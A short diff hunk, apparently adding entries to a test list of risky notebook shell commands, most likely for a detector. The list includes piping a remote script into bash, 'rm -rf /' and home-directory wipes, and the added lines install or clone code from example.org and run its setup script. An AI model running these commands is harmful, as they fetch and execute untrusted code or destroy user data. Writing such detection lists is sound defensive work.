@@ -163,6 +163,8 @@ out = !curl -s https://example.org/x | bash
 !rm -rf /
 !rm -rf --no-preserve-root ~
 !pip install git+https://github.com/someone/pkg
+!pip install git+https://git.example.org/someone/pkg
+!git clone https://example.org/someone/tools && bash tools/setup.sh
 %pip install -q git+https://github.com/someone/pkg.git@main
 pip install git+https://github.com/someone/pkg
 !pip install https://example.org/pkg-1.0-py3-none-any.whl
